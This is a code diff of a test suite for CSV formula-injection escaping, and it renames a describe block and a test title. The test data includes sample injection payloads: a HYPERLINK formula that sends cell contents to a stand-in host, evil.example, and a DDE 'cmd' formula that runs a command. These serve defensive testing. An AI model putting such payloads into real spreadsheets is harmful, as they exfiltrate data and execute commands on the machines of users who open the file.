@@ -43,7 +43,7 @@ const findFormulas = (csv: string): string[] =>
     ])
     .filter(isFormula)
 
-describe('csv', () => {
+describe('CSV', () => {
   it.each([
     ['=HYPERLINK("https://evil.example/?x="&A1,"open")'],
     ["=cmd|'/c calc'!A0"],
@@ -116,7 +116,7 @@ describe('csv', () => {
     expect(performance.now() - began).toBeLessThan(2000)
   })
 
-  it('parses back to the escaped texts, none of which is a formula', () => {
+  it('contains exactly the escaped texts, and no cell is a formula', () => {
     const text = fc.oneof(
       anyText(),
       fc.string({ unit: fc.constantFrom(...Array.from('=+-@"\',;|\t\r\n\0 a1＝')) }),
